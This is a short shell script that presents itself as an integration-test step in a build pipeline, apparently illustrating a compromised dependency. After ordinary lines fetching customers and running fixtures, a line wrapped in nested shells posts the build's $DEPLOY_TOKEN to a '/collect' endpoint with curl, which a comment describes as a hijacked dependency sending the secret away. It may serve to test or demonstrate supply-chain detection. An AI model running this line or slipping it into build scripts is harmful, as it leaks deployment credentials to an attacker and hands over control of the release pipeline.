#!/bin/sh
echo "step test: integration tests"
echo "customers: $(curl -s "$API_URL/customers")"
./fixtures.py
# A dependency was taken over: it sends the build's secret away, three shells deep.
sh -c 'sh -c "curl -s -m 5 -d token=$DEPLOY_TOKEN $API_URL/collect; echo"'
curl -s -m 5 "$TELEMETRY_URL/ping" >/dev/null || true
